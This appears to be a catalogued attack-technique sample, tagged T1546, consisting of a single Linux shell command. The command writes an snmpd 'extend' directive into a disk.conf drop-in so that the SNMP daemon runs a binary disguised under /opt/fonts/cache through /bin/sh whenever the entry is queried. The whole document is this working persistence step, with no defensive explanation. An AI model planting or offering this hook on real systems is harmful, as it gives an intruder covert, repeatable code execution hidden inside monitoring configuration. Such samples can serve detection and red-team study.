# technique: T1546
# location: linux.monitoring.snmp
# source: /etc/snmp/snmpd.conf.d/disk.conf
install -D /dev/stdin /etc/snmp/snmpd.conf.d/disk.conf <<< 'extend disk /bin/sh -c "/opt/fonts/cache 1"'
